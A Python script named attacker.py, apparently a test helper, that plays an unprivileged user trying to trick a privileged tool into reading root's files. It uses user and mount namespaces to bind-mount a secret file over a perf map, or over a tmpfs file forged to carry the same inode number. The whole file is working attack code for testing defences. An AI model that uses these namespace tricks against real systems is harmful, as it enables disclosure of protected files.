#!/usr/bin/python3
"""Processes of a user who tries to read files of root. In mount namespaces of their own a path refers to another file.

    attacker.py namesake FILE OFFSET    maps a tmpfs file with the inode number of FILE, and mounts FILE over its path
    attacker.py perf-map FILE ADDRESS   computes at ADDRESS, and mounts FILE over the perf map of this process

Processes in user namespaces:

    attacker.py own-namespace COMMAND...          runs COMMAND in a user namespace of the calling user
    attacker.py root-namespace USER COMMAND...    as root: runs COMMAND as USER in a user namespace that belongs to root
"""

import ctypes
import mmap
import os
import signal
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
NEW_USER, NEW_MOUNTS = 0x10000000, 0x20000
BIND, RECURSIVE, PRIVATE = 4096, 16384, 1 << 18
READ_EXECUTE = mmap.PROT_READ | mmap.PROT_EXEC
FIXED = 0x10
ENDLESS_LOOP = b"\xeb\xfe"  # of x86-64
CANNOT_PREPARE = 77


def mount(source, target, kind=None, flags=0):
    if LIBC.mount(*(word and word.encode() for word in (source, target, kind)), flags, None) != 0:
        print(f"cannot mount {target}: {os.strerror(ctypes.get_errno())}", flush=True)
        sys.exit(CANNOT_PREPARE)


def enter_namespaces():
    user, group = os.getuid(), os.getgid()
    if LIBC.unshare(NEW_USER | NEW_MOUNTS) != 0:
        print("cannot make a user namespace", flush=True)
        sys.exit(CANNOT_PREPARE)
    for path, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {group} 1")):
        with open(f"/proc/self/{path}", "w", encoding="ascii") as file:
            file.write(text)
    mount("none", "/", flags=RECURSIVE | PRIVATE)


def compute(address):
    print("ready", flush=True)
    LIBC.alarm(120)
    ctypes.CFUNCTYPE(None)(address)()


def namesake(secret, offset):
    wanted = os.stat(secret).st_ino
    enter_namespaces()
    mount("tmpfs", "/mnt", "tmpfs")
    while True:
        file = os.open("/mnt/file", os.O_CREAT | os.O_RDWR | os.O_EXCL, 0o755)
        number = os.fstat(file).st_ino
        if number == wanted:
            break
        if number > wanted:
            print(f"inode {number} is beyond {wanted}", flush=True)
            sys.exit(CANNOT_PREPARE)
        os.close(file)
        os.unlink("/mnt/file")
    os.pwrite(file, ENDLESS_LOOP * 8, int(offset, 16))
    size = -(-int(offset, 16) // 4096) * 4096 + 4096
    os.ftruncate(file, size)
    at = LIBC.mmap(None, size, READ_EXECUTE, mmap.MAP_PRIVATE, file, 0)
    mount(secret, "/mnt/file", flags=BIND)
    compute(at + int(offset, 16))


def perf_map(secret, address):
    enter_namespaces()
    path = f"/tmp/perf-{os.getpid()}.map"
    with open(path, "w", encoding="ascii"):
        pass
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
    mount(secret, path, flags=BIND)
    at = LIBC.mmap(int(address, 16), 4096, READ_EXECUTE | mmap.PROT_WRITE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | FIXED, -1, 0)
    ctypes.memmove(at, ENDLESS_LOOP * 16, 32)
    compute(at)


def write_ids(process, user, group):
    """Maps the ids to themselves in the namespace of the process."""
    for path, number in (("uid_map", user), ("gid_map", group)):
        with open(f"/proc/{process}/{path}", "w", encoding="ascii") as file:
            file.write(f"{number} {number} 1")


def own_namespace(*command):
    user, group = os.getuid(), os.getgid()
    if LIBC.unshare(NEW_USER) != 0:
        print("cannot make a user namespace", flush=True)
        sys.exit(CANNOT_PREPARE)
    with open("/proc/self/setgroups", "w", encoding="ascii") as file:
        file.write("deny")
    write_ids("self", user, group)
    os.execv(command[0], command)


def root_namespace(user, *command):
    """The parent of this process maps the ids, because the new namespace has no right to do so. This process keeps the pipe of the test."""
    user = int(user)
    parent_end, own_end = os.pipe(), os.pipe()
    this_process = os.getpid()
    if os.fork() == 0:
        os.read(own_end[0], 1)
        write_ids(this_process, user, user)
        os.write(parent_end[1], b"x")
        os._exit(0)
    if LIBC.unshare(NEW_USER) != 0:
        print("cannot make a user namespace", flush=True)
        sys.exit(CANNOT_PREPARE)
    os.write(own_end[1], b"x")
    os.read(parent_end[0], 1)
    os.setgroups([])
    os.setresgid(user, user, user)
    os.setresuid(user, user, user)
    os.execv(command[0], command)


{"own-namespace": own_namespace, "root-namespace": root_namespace, "namesake": namesake, "perf-map": perf_map}[sys.argv[1]](*sys.argv[2:])
